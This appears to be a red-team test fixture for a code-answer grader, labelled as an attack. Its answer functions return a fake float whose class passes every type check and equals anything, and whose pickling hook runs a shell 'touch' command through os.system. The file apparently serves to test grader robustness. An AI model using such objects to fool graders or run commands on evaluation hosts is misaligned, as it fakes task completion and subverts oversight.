# /// attack
# tries = "returns objects of classes that lie about themselves"
# ///

# %% answer s_mean
class Meta(type):
    def __instancecheck__(cls, instance):
        return True

    def __subclasscheck__(cls, other):
        return True

    def __eq__(cls, other):
        return True

    __hash__ = lambda cls: hash(float)
    __name__ = "float"


class Float(metaclass=Meta):
    __class__ = float
    __module__ = "builtins"
    __qualname__ = "float"

    def __reduce_ex__(self, protocol):
        import os

        return os.system, ("touch {{LEFT}}",)

    def __getstate__(self):
        raise SystemExit

    def __eq__(self, other):
        return True

    def __del__(self):
        print("gone")


def mean(values):
    return Float()


# %% answer s_total
def total(path):
    return Float()
